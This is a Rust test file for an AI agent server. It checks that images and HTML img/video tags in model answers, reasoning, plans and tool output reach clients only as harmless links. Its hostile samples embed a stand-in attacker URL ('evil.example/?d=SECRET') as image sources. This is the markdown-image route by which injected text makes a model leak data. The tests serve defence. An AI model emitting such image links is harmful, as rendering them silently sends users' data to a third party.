//! Images in what models say: a client that renders Markdown loads those that others named, and no other.

use serde_json::{Value, json};

use crate::world::{Frame, Options, Protocol, Question, World, planner, summary, task};

const SECRET: &str = "https://evil.example/?d=SECRET";
const KNOWN: &str = "https://known.example/chart.png";

/// The text of an image, of one with a definition, and of elements of HTML, in every place of an answer.
fn hostile_text() -> String {
    format!(
        "See ![a]({SECRET}) ![b][c] <img src=\"{SECRET}\" alt=\"d\"> <video poster={SECRET}></video>\n\n\
         [c]: {SECRET}\n\nand ![e](sales.png) ![f]({KNOWN}) and `vec![1]`."
    )
}

fn harmless_text() -> String {
    format!(
        "See [a]({SECRET}) ![b][c] [d]({SECRET}) &lt;video poster={SECRET}></video>\n\n\
         [c] : {SECRET}\n\nand ![e](sales.png) ![f]({KNOWN}) and `vec![1]`."
    )
}

/// All texts of frames, in which a client could find an image; how a text came in pieces is put together first.
fn texts_of(frames: &[Frame]) -> String {
    let mut texts = String::new();
    for frame in frames {
        collect_texts(&frame.json(), &mut texts);
    }
    texts
}

fn collect_texts(value: &Value, texts: &mut String) {
    match value {
        Value::String(text) => texts.push_str(text),
        Value::Array(items) => items.iter().for_each(|item| collect_texts(item, texts)),
        Value::Object(members) => members.values().for_each(|member| collect_texts(member, texts)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[track_caller]
fn check_texts(texts: &str) {
    for image in [format!("![a]({SECRET}"), format!("[c]: {SECRET}")] {
        assert!(!texts.contains(&image), "{texts}");
    }
    assert!(!texts.contains("<img") && !texts.contains("<video"), "{texts}");
}

#[tokio::test]
async fn made_up_images_of_an_answer_are_links_in_every_protocol_and_every_piece() {
    for protocol in Protocol::ALL {
        for chars in [1, 7, 10_000] {
            let world = World::start().await;
            world.model.on("Show").reason(hostile_text()).reply(hostile_text()).delta_chars(chars);
            let question = format!("Show {KNOWN} and the rest.");
            let question = Question::of(&question, "s1");
            let frames = world.ask(protocol, &question).await.rest().await;
            assert!(frames.last().unwrap().is_final(), "{frames:?}");
            check_texts(&texts_of(&frames));
            if protocol == Protocol::Native {
                let deltas = frames.iter().filter(|frame| frame.event() == "preview");
                let deltas: Vec<Value> = deltas.map(Frame::json).collect();
                for kind in ["text", "reasoning"] {
                    let pieces = deltas.iter().filter(|delta| delta["kind"] == kind);
                    let shown: String =
                        pieces.map(|delta| delta["text"].as_str().unwrap()).collect();
                    assert_eq!(shown, harmless_text(), "{kind} in pieces of {chars}");
                }
                assert_eq!(frames.last().unwrap().json()["answer"], harmless_text());
            }
            let run = world.get("/runs?limit=1").await.json()["runs"][0]["run"].clone();
            let shown = world.get(&format!("/runs/{}", run.as_str().unwrap())).await;
            check_texts(&shown.json().to_string());
            check_texts(&world.get("/sessions/s1").await.json().to_string());
        }
    }
}

#[tokio::test]
async fn plans_tasks_and_questions_have_no_made_up_images_either() {
    let world = World::start_with(|options: &mut Options, _| {
        let clarify = r#"{"clarify": true, "timeout": 0}"#;
        options.vars.push(("DJINN_PEOPLE__REQUESTS", clarify.to_owned()));
    })
    .await;
    let image = format!("![a]({SECRET})");
    let plan = json!({
        "command": "create", "title": format!("Plan {image}"),
        "steps": [{"id": "s1", "stage": "Look", "details": format!("at {image}")}],
    });
    planner(&world.model).say(image.clone()).call("planning", plan).then().reply("Done.");
    task(&world.model, "").reply(format!("Found {image}"));
    summary(&world.model).reply(format!("All of {image}$$$"));
    let frames = world.told(&Question::of("Compare.", "s1").deep()).await;
    let texts = texts_of(&frames);
    check_texts(&texts);
    for place in ["Plan [a]", "at [a]", "Found [a]", "All of [a]"] {
        assert!(texts.contains(place), "{place}: {texts}");
    }
    let asks = json!({"questions": [format!("Which {image}?")]});
    world.model.on("Which one").say("…").call("ask_user", asks);
    let frames = world.ask(Protocol::Native, &Question::of("Which one?", "s2")).await.rest().await;
    let texts = texts_of(&frames);
    check_texts(&texts);
    assert!(texts.contains("Which [a]"), "{texts}");
}

#[tokio::test]
async fn a_page_of_joyagent_is_shown_no_image_that_code_printed() {
    // Its page renders what tools answer as Markdown.
    let world = World::start().await;
    let get = json!({"command": "get", "filename": format!("![a]({SECRET})")});
    world.model.on("Read it").say("…").call("file_tool", get).then().reply("Done.");
    for protocol in [Protocol::Raw, Protocol::Ui] {
        let frames = world.ask(protocol, &Question::of("Read it.", "s1")).await.rest().await;
        let texts = texts_of(&frames);
        check_texts(&texts);
        assert!(texts.contains("evil.example"), "{texts}");
    }
}
